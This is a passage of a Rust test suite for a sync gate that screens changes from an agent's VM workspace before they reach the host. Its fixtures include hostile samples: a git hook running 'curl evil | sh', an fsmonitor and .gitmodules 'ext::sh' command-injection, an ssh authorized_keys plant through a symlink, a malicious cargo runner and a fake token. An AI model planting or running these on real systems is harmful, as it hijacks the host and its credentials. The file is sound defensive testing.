    assert_eq!(g.tree(), lines(&["a 644 A", "tool 644 bin"]));
}

#[test]
fn g4_timestamps_from_the_vm_are_not_kept() {
    let g = Gate::new(&[("a", "A")]);
    let start = SystemTime::now();
    g.u("future", "f").u("past", "p");
    set_mtime(&g.upper().join("future"), SystemTime::UNIX_EPOCH + Duration::from_secs(4_102_444_800));
    set_mtime(&g.upper().join("past"), SystemTime::UNIX_EPOCH - Duration::from_secs(86_400));
    applied(&g.sync(&["--yes"]));
    let lowest = SystemTime::UNIX_EPOCH + Duration::from_secs(315_532_800);
    let highest = SystemTime::now() + Duration::from_secs(86_400);
    for f in ["future", "past"] {
        let mtime = g.host().join(f).metadata().expect("stat").modified().expect("mtime");
        assert!(mtime >= lowest && mtime <= highest && mtime >= start - Duration::from_secs(5), "{f}: {mtime:?}");
    }
}

#[test]
fn g5_exec_bit_added_needs_a_persons_approval() {
    let g = Gate::new(&[("run.sh", "echo hi\n")]);
    g.u("run.sh", "echo hi\n").u_mode("run.sh", 0o755);
    assert_eq!(g.ops(), ["write run.sh"], "a mode change alone is a change");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("run.sh", "R_EXECUTABLE")]);
}

#[test]
fn g6_user_xattrs_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "data").xattr("f", "user.foo", b"bar").xattr("f", "user.com.apple.quarantine", b"0081;5f;Safari;");
    applied(&g.sync(&["--yes"]));
    let names: Vec<_> = xattr::list(g.host().join("f")).expect("list").collect();
    assert!(names.is_empty(), "{names:?}");
    assert_eq!(g.tree(), lines(&["a 644 A", "f 644 data"]));
}

#[test]
fn g7_posix_acls_are_dropped() {
    let g = Gate::new(&[("a", "A")]);
    // ACL v2: user::rw-, user:1000:rw-, group::r--, mask::r--, other::r--.
    let mut acl = 2u32.to_le_bytes().to_vec();
    for (tag, perm, id) in
        [(1u16, 6u16, u32::MAX), (2, 6, 1000), (4, 4, u32::MAX), (0x10, 4, u32::MAX), (0x20, 4, u32::MAX)]
    {
        acl.extend(tag.to_le_bytes());
        acl.extend(perm.to_le_bytes());
        acl.extend(id.to_le_bytes());
    }
    g.u("f", "data").xattr("f", "system.posix_acl_access", &acl);
    applied(&g.sync(&["--yes"]));
    assert_eq!(xattr::get(g.host().join("f"), "system.posix_acl_access").expect("xattr"), None);
    assert_eq!(g.tree(), lines(&["a 644 A", "f 644 data"]));
}

#[test]
fn g8_directory_mode_000_is_normalised() {
    let g = Gate::new(&[("locked/x", "x")]);
    g.u_dir("locked").u_mode("locked", 0o000).u("newdir/f", "f").u_mode("newdir", 0o000);
    applied(&g.sync(&["--yes"]));
    for dir in ["locked", "newdir"] {
        let mode = g.host().join(dir).metadata().expect("stat").mode() & 0o777;
        assert_eq!(mode & 0o700, 0o700, "{dir}: {mode:o}; the owner can still use it");
    }
}

// ---------------------------------------------------------------------------------------------
// H. Case and Unicode aliasing: checked on every host, with APFS semantics.

#[test]
fn h1_two_new_names_differing_by_case_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("Makefile", "a").u("makefile", "b").u("README.md", "r").u("readme.md", "r2");
    let before = g.snapshot();
    let expect = [
        ("Makefile", "E_NAME_ALIAS"),
        ("makefile", "E_NAME_ALIAS"),
        ("README.md", "E_NAME_ALIAS"),
        ("readme.md", "E_NAME_ALIAS"),
    ];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn h2_nfc_and_nfd_spellings_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("caf\u{e9}", "nfc").u("cafe\u{301}", "nfd");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("caf\u{e9}", "E_NAME_ALIAS"), ("cafe\u{301}", "E_NAME_ALIAS")]);
}

#[test]
fn h3_new_name_aliasing_an_existing_host_file_is_refused() {
    let g = Gate::new(&[("README.md", "# project\n")]);
    g.u("readme.md", "overwrites README.md on macOS");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("readme.md", "E_NAME_ALIAS")]);
}

#[test]
fn h4_case_only_rename_is_applied_delete_first() {
    let g = Gate::new(&[("Readme.md", "old"), ("Docs/a.md", "a")]);
    g.whiteout("Readme.md").u("README.md", "new").whiteout("Docs").u("docs/a.md", "a");
    let ops = g.ops();
    let at = |op: &str| ops.iter().position(|o| o == op).unwrap_or_else(|| panic!("{op}: {ops:?}"));
    assert!(at("delete Readme.md") < at("write README.md"), "{ops:?}");
    assert!(at("delete Docs") < at("mkdir docs"), "{ops:?}");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["README.md 644 new", "docs/ 755", "docs/a.md 644 a"]));
}

#[test]
fn h5_symlink_plus_case_alias_is_refused() {
    let g = Gate::new(&[(".git/hooks/pre-commit.sample", "#!/bin/sh\n"), ("a.txt", "a")]);
    g.u_link("A", ".git/hooks").u("a/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
    g.u_link("S", &g.home().join(".ssh").display().to_string()).u("s/authorized_keys", "ssh-ed25519 AAAA evil\n");
    let before = g.snapshot();
    let expect = [("A", "E_GIT_PATH"), ("a", "E_NAME_ALIAS"), ("S", "E_SYMLINK_ESCAPE"), ("s", "E_NAME_ALIAS")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
    assert!(!g.home().join(".ssh").exists());
}

#[test]
fn h6_hfs_ignorable_git_spellings_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".g\u{200c}it/hooks/pre-commit", "#!/bin/sh\n").u(".git\u{feff}/config", "[core]\n");
    let before = g.snapshot();
    let expect = [(".g\\u{200c}it/hooks/pre-commit", "E_GIT_PATH"), (".git\\u{feff}/config", "E_GIT_PATH")];
    refused(&g, &g.sync(&["--yes"]), &before, &expect);
}

#[test]
fn h7_file_and_directory_differing_by_case_are_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u("Docs", "file").u("docs/x", "dir");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("Docs", "E_NAME_ALIAS"), ("docs", "E_NAME_ALIAS")]);
}

#[test]
fn h8_new_path_under_a_host_directory_differing_by_case_is_refused() {
    // The host directory the baseline never saw...
    let g = Gate::new(&[("a", "A")]);
    std::fs::create_dir(g.host().join("Src")).expect("mkdir");
    g.u("src/new.rs", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_NAME_ALIAS")]);
    // ...and one it did.
    let g = Gate::new(&[("Src/lib.rs", "l")]);
    g.u("src/new.rs", "x");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("src", "E_NAME_ALIAS")]);
}

// ---------------------------------------------------------------------------------------------
// I. `.git` and code-execution paths.

#[test]
fn i1_new_git_hook_is_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n")]);
    g.u(".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n").u_mode(".git/hooks/post-checkout", 0o755);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/hooks/post-checkout", "E_GIT_PATH")]);
}

#[test]
fn i2_git_config_change_is_refused() {
    let g = Gate::new(&[(".git/config", "[core]\n\tbare = false\n")]);
    g.u(".git/config", "[core]\n\tbare = false\n\tfsmonitor = \"sh -c evil\"\n\thooksPath = /tmp/h\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/config", "E_GIT_PATH")]);
}

#[test]
fn i3_git_directory_in_other_case_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".GIT/config", "[core]\n").u(".Git/hooks/x", "#!/bin/sh\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".GIT/config", "E_GIT_PATH"), (".Git/hooks/x", "E_GIT_PATH")]);
}

#[test]
fn i4_git_directory_replaced_by_a_gitdir_file_is_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n"), (".git/config", "[core]\n")]);
    g.u(".git", "gitdir: /tmp/evil\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git", "E_GIT_PATH"), (".git/config", "E_GIT_PATH")]);
}

#[test]
fn i5_submodule_internals_are_refused() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n")]);
    g.u(".git/modules/x/hooks/pre-commit", "#!/bin/sh\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".git/modules/x/hooks/pre-commit", "E_GIT_PATH")]);
}

#[test]
fn i6_auto_run_files_need_a_persons_approval() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".vscode/tasks.json", r#"{"tasks": [{"runOptions": {"runOn": "folderOpen"}}]}"#);
    g.u(".envrc", "use nix\n").u(".cargo/config.toml", "[target.x86_64-unknown-linux-gnu]\nrunner = \"evil\"\n");
    g.u("build.rs", "fn main() {}\n");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let expect = [".vscode/tasks.json", ".envrc", ".cargo/config.toml", "build.rs"].map(|p| (p, "R_CODE_PATH"));
    refused(&g, &out, &before, &expect);
    assert!(out.stdout.contains("needs approval:"), "{}", out.all());
}

#[test]
fn i7_gitmodules_needs_approval_and_a_carriage_return_path_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".gitmodules", "[submodule \"x\"]\n\tpath = x\n\turl = ext::sh -c touch% /tmp/pwned\n");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[(".gitmodules", "R_CODE_PATH")]);
    g.u("sub\r", "x");
    refused(&g, &g.sync(&["--yes"]), &before, &[("sub\\u{d}", "E_NAME")]);
}

#[test]
fn i8_agent_commits_are_refused_with_the_bundle_hint() {
    let g = Gate::new(&[(".git/HEAD", "ref: refs/heads/main\n"), (".git/index", "DIRC")]);
    g.u(".git/objects/ab/cdef0123", "blob").u(".git/refs/heads/main", "abcdef\n").u(".git/index", "DIRC2");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    let expect = [".git/objects/ab/cdef0123", ".git/refs/heads/main", ".git/index"].map(|p| (p, "E_GIT_PATH"));
    refused(&g, &out, &before, &expect);
    assert!(out.stdout.contains("git bundle"), "{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// J. Resource exhaustion.

#[test]
fn j1_file_over_the_size_limit_is_refused_and_leaves_no_staging() {
    let g = Gate::new(&[("a", "A")]);
    g.u("big", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("big"))
        .expect("open")
        .set_len((10 << 20) + 1)
        .expect("size");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("big", "E_SIZE")]);
    let sync_state = g.home().join(".local/state/sandbox/sync");
    for e in walkdir::WalkDir::new(&sync_state).into_iter().flatten() {
        assert!(!e.path().components().any(|c| c.as_os_str() == "stage"), "staging left: {}", e.path().display());
    }
}

#[test]
fn j1_file_over_the_size_limit_is_never_staged() {
    let g = Gate::new(&[("a", "A")]);
    g.u("big", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("big"))
        .expect("open")
        .set_len((10 << 20) + 1)
        .expect("size");
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 3, "{}", out.all());
    let audit = std::fs::read_to_string(g.home().join(".local/state/sandbox/audit.jsonl")).expect("audit");
    let last: serde_json::Value = serde_json::from_str(audit.lines().last().expect("a line")).expect("json");
    assert_eq!(last["sha256"], serde_json::json!([]), "staged before the refusal: {last}");
}

#[test]
fn j1_tar_member_over_the_size_limit_is_refused_before_reading_it() {
    let g = Gate::new(&[("a", "A")]);
    let mut tar = Tar::new();
    tar.root().member(tar::EntryType::Regular, b"./big", b"", 20 << 30, b"");
    let before = g.snapshot();
    refused(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("./big", "E_LIMIT")]);
}

#[test]
fn j2_sparse_bomb_is_refused_on_its_apparent_size() {
    let g = Gate::new(&[("a", "A")]);
    g.u("sparse.bin", "");
    std::fs::File::options()
        .write(true)
        .open(g.upper().join("sparse.bin"))
        .expect("open")
        .set_len(1 << 40)
        .expect("size");
    let before = g.snapshot();
    let out = g.sync_within(&["--yes"], Duration::from_secs(20)).expect("refused quickly, never expanded");
    refused(&g, &out, &before, &[("sparse.bin", "E_SIZE")]);
}

#[test]
fn j3_too_many_files_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let many = g.upper().join("many");
    std::fs::create_dir(&many).expect("mkdir");
    for i in 0..10_001 {
        std::fs::File::create(many.join(i.to_string())).expect("create");
    }
    let before = g.snapshot();
    let start = Instant::now();
    let out = g.sync(&["--yes"]);
    refused_saying(&g, &out, &before, &[("is past `sync.max_files`", "E_COUNT")]);
    assert!(start.elapsed() < Duration::from_secs(30), "{:?}", start.elapsed());
}

#[test]
fn j4_deep_upper_directory_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    g.u(&format!("{}f", "d/".repeat(200)), "deep");
    let before = g.snapshot();
    refused_saying(&g, &g.sync(&["--yes"]), &before, &[("more than 64 levels deep", "E_DEPTH")]);
}

#[test]
fn j4_depth_10000_in_a_stream_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let path = format!("./{}f", "d/".repeat(10_000));
    let mut tar = Tar::new();
    tar.root().pax(&[("path", path.as_bytes())]).file("./x", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("more than 64 levels deep", "E_DEPTH")]);
}

#[test]
fn j5_enospc_during_apply_rolls_back() {
    let g = Gate::empty();
    let _mount = Mount::tmpfs(&g.host(), "256k");
    g.h("a", "A");
    g.baseline();
    g.u("a", "A2").u_bytes("big.bin", &vec![b'z'; 1 << 20]);
    let before = g.tree();
    let out = g.sync(&["--yes"]);
    assert_eq!(out.code, 1, "an error\n{}", out.all());
    assert!(out.stderr.contains("rolled back") && out.stderr.contains("No space left"), "{}", out.all());
    assert_eq!(g.tree(), before, "rolled back, no temp files\n{}", out.all());
    // Nothing is left for the next run to recover.
    let again = g.sync(&["--dry-run"]);
    assert!(!again.all().contains("interrupted"), "{}", again.all());
}

#[test]
fn j6_xattr_bomb_is_refused_with_bounded_memory() {
    let g = Gate::new(&[("a", "A")]);
    let value = vec![b'v'; 64 << 10];
    let names: Vec<String> = (0..1000).map(|i| format!("SCHILY.xattr.user.x{i}")).collect();
    let records: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &value[..])).collect();
    let mut tar = Tar::new();
    tar.root().pax(&records).file("./f", "x");
    let before = g.snapshot();
    refused_saying(&g, &g.sync_tar(&tar, &["--yes"]), &before, &[("PAX header", "E_LIMIT")]);
}

#[test]
fn j7_symlink_target_of_4095_bytes_is_refused() {
    let g = Gate::new(&[("a", "A")]);
    let target = format!("{}x", "a/".repeat(2047));
    assert_eq!(target.len(), 4095);
    g.u_link("t", &target);
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("t", "E_SYMLINK_TARGET")]);
}

// ---------------------------------------------------------------------------------------------
// K. TOCTOU (the cases that need no race harness).

#[test]
fn k5_a_second_sync_while_one_is_running_is_refused() {
    use std::io::Write;
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    let mut tar = Tar::new();
    tar.root().file("./a", &"A2".repeat(4096));
    let stream = tar.finish();
    let (entries, bytes) = (tar.entries.to_string(), tar.bytes.to_string());
    let args = ["--profile", "t", "sync", "--from-tar", "-", "--entries", &entries, "--bytes", &bytes, "--to", "ws"];
    let mut first = g
        .command(Path::new(env!("CARGO_BIN_EXE_sandbox")))
        .args(args)
        .arg("--yes")
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn");
    let mut stdin = first.stdin.take().expect("stdin");
    stdin.write_all(&stream[..2048]).expect("first half");
    stdin.flush().expect("flush");
    // Wait until the first sync is staging the member it is reading.
    let state = g.home().join(".local/state/sandbox/sync");
    let start = Instant::now();
    let staging = || {
        walkdir::WalkDir::new(&state)
            .into_iter()
            .flatten()
            .any(|e| e.file_name().to_string_lossy().starts_with(".incoming-"))
    };
    while !staging() {
        assert!(start.elapsed() < Duration::from_secs(20), "the first sync never started staging");
        std::thread::sleep(Duration::from_millis(20));
    }
    g.u("b", "B2");
    let before = g.snapshot();
    let second = g.sync(&["--yes"]);
    let _ = stdin.write_all(&stream[2048..]);
    drop(stdin);
    let start = Instant::now();
    while first.try_wait().expect("wait").is_none() {
        if start.elapsed() > Duration::from_secs(20) {
            let _ = first.kill();
            let _ = first.wait();
            break;
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(second.code == 1 || second.code == 3, "the second sync fails (E_LOCKED)\n{}", second.all());
    assert!(second.all().to_lowercase().contains("lock"), "{}", second.all());
    assert_eq!(g.snapshot()["ws/b"], before["ws/b"], "the second sync wrote nothing");
}

#[test]
fn k7_mount_point_inside_the_workspace_is_refused() {
    let g = Gate::empty();
    std::fs::create_dir(g.host().join("mnt")).expect("mkdir");
    let _mount = Mount::tmpfs(&g.host().join("mnt"), "1m");
    g.h("mnt/existing", "e").h("a", "A");
    g.baseline();
    g.u_dir("mnt").u("mnt/x", "into another filesystem");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    assert!(out.code == 3 || out.code == 1, "refused (E_XDEV)\n{}", out.all());
    assert_eq!(g.snapshot(), before, "nothing written across the mount\n{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// M. Conflicts and untracked data.

#[test]
fn m1_both_sides_modified_is_a_conflict() {
    let g = Gate::new(&[("a", "base"), ("b", "B")]);
    g.h("a", "host");
    g.u("a", "vm").u("b", "B2");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "changed on the host since the baseline")]);
}

#[test]
fn m2_host_edit_the_vm_did_not_touch_is_kept() {
    let g = Gate::new(&[("a", "base"), ("b", "B")]);
    g.h("a", "host");
    g.u("b", "B2");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["a 644 host", "b 644 B2"]));
}

#[test]
fn m3_host_modified_and_vm_deleted_is_a_conflict() {
    let g = Gate::new(&[("a", "base")]);
    g.h("a", "host");
    g.whiteout("a");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("a", "changed on the host since the baseline")]);
}

#[test]
fn m4_host_file_added_in_a_deleted_directory_survives() {
    let g = Gate::new(&[("d2/x", "x"), ("d2/sub/y", "y"), ("keep", "k")]);
    g.h("d2/new_on_host", "mine");
    g.whiteout("d2");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert_eq!(g.tree(), lines(&["d2/ 755", "d2/new_on_host 644 mine", "keep 644 k"]));
}

#[test]
fn m4_host_file_added_in_a_deleted_directory_is_reported() {
    let g = Gate::new(&[("d2/x", "x"), ("keep", "k")]);
    g.h("d2/new_on_host", "mine");
    g.whiteout("d2");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.all().contains("new_on_host") || out.stdout.lines().any(|l| l.contains("d2") && l.contains("kept")));
}

const EXCLUDES: &str = "name: t\nextends: default\nworkspaces: [{host: ~/ws, exclude: [\"**/node_modules/**\"]}]\n";

#[test]
fn m5_excluded_content_survives_a_deleted_parent() {
    let g = Gate::with_profile(EXCLUDES);
    g.h("app/main.js", "m").h("app/node_modules/dep/index.js", "d").h("keep", "k");
    g.baseline();
    g.whiteout("app");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.contains("excluded by the workspace's exclude globs"), "{}", out.all());
    assert!(out.stdout.contains("app/node_modules/dep/index.js"), "{}", out.all());
    let expect = [
        "app/ 755",
        "app/node_modules/ 755",
        "app/node_modules/dep/ 755",
        "app/node_modules/dep/index.js 644 d",
        "keep 644 k",
    ];
    assert_eq!(g.tree(), lines(&expect));
}

/// A sandboxed tool session leaves its container's skills mount point in the workspace's upper.
#[test]
fn the_tool_sandboxs_empty_mount_points_are_left_out_and_listed() {
    let g = Gate::new(&[("a", "A")]);
    g.u_dir(".openclaw/sandbox-skills/skills");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("left out: the tool sandbox's mount points"), "{}", out.all());
    let report: serde_json::Value = serde_json::from_str(&g.sync(&["--dry-run", "--json"]).stdout).unwrap();
    assert_eq!(
        report["mount_points"],
        serde_json::json!([".openclaw/sandbox-skills/skills", ".openclaw/sandbox-skills", ".openclaw"])
    );

    // With the agent's own file beside them, the file and the folder it needs are synced.
    g.u(".openclaw/notes.md", "n");
    assert_eq!(g.ops(), ["mkdir .openclaw", "write .openclaw/notes.md"]);
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&[".openclaw/ 755", ".openclaw/notes.md 644 n", "a 644 A"]));
}

#[test]
fn m6_host_extras_in_an_opaque_directory_survive() {
    let g = Gate::new(&[("d3/y", "y"), ("d3/z", "z")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/new", "n");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["d3/ 755", "d3/extra 644 mine", "d3/new 644 n"]));
}

#[test]
fn m6_host_extras_in_an_opaque_directory_are_reported() {
    let g = Gate::new(&[("d3/y", "y")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/new", "n");
    let out = g.sync(&["--yes"]);
    applied(&out);
    assert!(out.stdout.lines().any(|l| l.contains("d3/extra")), "a warning\n{}", out.all());
}

#[test]
fn m6_a_host_only_file_the_vm_writes_in_an_opaque_directory_is_a_conflict() {
    let g = Gate::new(&[("d3/y", "y")]);
    g.h("d3/extra", "mine");
    g.opaque("d3").u("d3/extra", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("d3/extra", "created on the host too")]);
}

#[test]
fn m7_both_added_with_other_content_is_a_conflict() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "host");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "created on the host too")]);
}

#[test]
fn m7_both_added_with_the_same_content_is_a_no_op() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "same");
    g.u("p", "same");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn m8_host_deleted_and_vm_modified_is_a_conflict() {
    let g = Gate::new(&[("p", "base"), ("a", "A")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "deleted on the host")]);
}

#[test]
fn m9_both_deleted_is_a_no_op() {
    let g = Gate::new(&[("p", "base"), ("a", "A")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.whiteout("p");
    let before = g.snapshot();
    nothing_to_do(&g, &g.sync(&["--yes"]), &before);
}

#[test]
fn m10_host_type_change_is_a_conflict() {
    let g = Gate::new(&[("p", "base")]);
    std::fs::remove_file(g.host().join("p")).expect("rm");
    g.h("p/inner", "host dir");
    g.u("p", "vm");
    let before = g.snapshot();
    refused(&g, &g.sync(&["--yes"]), &before, &[("p", "changed on the host")]);
}

#[test]
fn m11_host_touch_only_is_not_a_conflict() {
    let g = Gate::new(&[("p", "base")]);
    set_mtime(&g.host().join("p"), SystemTime::now() + Duration::from_secs(600));
    g.u("p", "vm");
    applied(&g.sync(&["--yes"]));
    assert_eq!(g.tree(), lines(&["p 644 vm"]));
}

#[test]
fn m12_whiteout_for_a_host_only_path_keeps_it_and_says_so() {
    let g = Gate::new(&[("a", "A")]);
    g.h("p", "host only");
    g.whiteout("p");
    let before = g.snapshot();
    let out = g.sync(&["--yes"]);
    nothing_to_do(&g, &out, &before);
    assert!(out.stdout.contains("p: deleted in the VM but never in the baseline"), "{}", out.all());
}

// ---------------------------------------------------------------------------------------------
// The person at the terminal (a real pseudo-terminal through tmux; skipped without tmux): choices
// in the preview, and the host changing while the preview is read (K3, K6).

impl Gate {
    /// `sandbox sync` of the upper into `ws` in a terminal; `None` without tmux.
    fn terminal(&self, color: bool) -> Option<crate::test::Tmux> {
        let mut env = crate::test::home_env(&self.home());
        if !color {
            env.push(("NO_COLOR".into(), "1".into()));
        }
        let args = format!(
            "--profile t sync --from-dir {} --to ws",
            crate::test::shell_quote(&self.upper().display().to_string())
        );
        let tmux = crate::test::Tmux::start(&self.home(), &self.home(), &env, &args);
        if tmux.is_none() {
            #[allow(clippy::print_stderr)] // the only way to say a test was skipped
            {
                eprintln!("skipped: tmux is not installed (CI installs it)");
            }
        }
        tmux
    }
}

#[test]
fn terminal_choose_operations_to_leave_out() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2").u("b", "B").u("c", "C");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    t.key("Down");
    t.key("Enter");
    t.wait_for("Space toggles");
    // The checklist is in plan order: a, b, c. Uncheck c.
    t.key("Down");
    t.key("Down");
    t.key("Space");
    t.key("Enter");
    // What will be applied is said, then confirmed.
    t.wait_for("Apply these?");
    assert!(t.screen().contains("these 2 operations will be applied:"), "{}", t.screen());
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A2", "b 644 B"]));
    // What was left out is offered again next time.
    let again = g.sync(&["--dry-run"]);
    assert!(again.stdout.lines().any(|l| l.trim() == "write   c"), "{}", again.all());
    assert!(!again.stdout.lines().any(|l| l.trim() == "write   b"), "{}", again.all());
}

#[test]
fn terminal_review_paths_are_approved_one_by_one() {
    let g = Gate::new(&[("a", "A")]);
    g.u(".envrc", "use nix\n").u("b", "B");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Approve .envrc?");
    t.key("n");
    t.wait_for("Apply to");
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A", "b 644 B"]), "the review path declined is left out");
    // Approved, it is applied.
    drop(t);
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Approve .envrc?");
    t.key("y");
    t.wait_for("Apply to");
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&[".envrc 644 use nix\n", "a 644 A", "b 644 B"]));
}

#[test]
fn terminal_preview_is_coloured_and_apply_nothing_writes_nothing() {
    let g = Gate::new(&[("a", "one\ntwo\n")]);
    g.u("a", "one\nthree\n");
    let Some(t) = g.terminal(true) else { return };
    t.wait_for("Apply to");
    let screen = t.tmux(&["capture-pane", "-p", "-e", "-t", "init"]);
    assert!(screen.contains("\x1b[32m") && screen.contains("\x1b[31m"), "green and red in:\n{screen:?}");
    t.key("Down");
    t.key("Down");
    t.key("Enter");
    assert_eq!(t.exit_code(), 3, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 one\ntwo\n"]));
}

#[test]
fn k3_host_edit_after_the_checks_abandons_the_sync() {
    let g = Gate::new(&[("a", "A"), ("b", "B")]);
    g.u("a", "A2").u("b", "B2").u("n", "N");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    g.h("a", "edited by the user meanwhile");
    t.key("Enter");
    assert_eq!(t.exit_code(), 1, "{}", t.screen());
    assert!(t.screen().contains("E_TOCTOU_CHANGED") && t.screen().contains("rolled back"), "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 edited by the user meanwhile", "b 644 B"]), "nothing applied");
}

#[test]
fn k6_host_file_created_at_a_planned_new_path_is_never_clobbered() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "A2").u("n", "from the VM");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    g.h("n", "created by the user meanwhile");
    t.key("Enter");
    assert_eq!(t.exit_code(), 1, "{}", t.screen());
    assert!(t.screen().contains("E_TOCTOU_CHANGED"), "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 A", "n 644 created by the user meanwhile"]), "nothing applied");
}

#[test]
fn k1_source_changed_after_the_scan_is_not_what_gets_applied() {
    let g = Gate::new(&[("a", "A")]);
    g.u("a", "the scanned bytes\n");
    let Some(t) = g.terminal(false) else { return };
    t.wait_for("Apply to");
    // Split so the repository's own self-scan does not see a token here.
    g.u("a", concat!("changed in the VM after the scan: token = gh", "p_0123456789abcdefghijklmnopqrstuvwxyz\n"));
    t.key("Enter");
    assert_eq!(t.exit_code(), 0, "{}", t.screen());
    assert_eq!(g.tree(), lines(&["a 644 the scanned bytes\n"]), "the staged bytes, never a second read");
}

/// Flip `path` under `root` between what `a` and `b` make, as fast as possible, until `stop`.
fn flipper(
    root: PathBuf,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    a: impl Fn(&Path) + Send + 'static,
    b: impl Fn(&Path) + Send + 'static,
) -> std::thread::JoinHandle<()> {
    std::thread::spawn(move || {
        while !stop.load(std::sync::atomic::Ordering::Relaxed) {
            a(&root);
            b(&root);
        }
        a(&root);
    })
}

#[test]
fn k2_source_flipping_to_a_symlink_during_the_scan_never_reads_the_target() {
    let g = Gate::new(&[("a", "A")]);
    g.u("f", "plain\n");
    let secret = g.home().join("outside/credentials");
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flip = flipper(
        g.upper(),
        stop.clone(),
        |u| {
            let _ = std::fs::remove_file(u.join("f"));
            let _ = std::fs::write(u.join(".f.tmp"), "plain\n");
            let _ = std::fs::rename(u.join(".f.tmp"), u.join("f"));
        },
        move |u| {
            let _ = std::os::unix::fs::symlink(&secret, u.join(".f.lnk"));
            let _ = std::fs::rename(u.join(".f.lnk"), u.join("f"));
        },
    );
    let mut outcomes = BTreeMap::new();
    for _ in 0..25 {
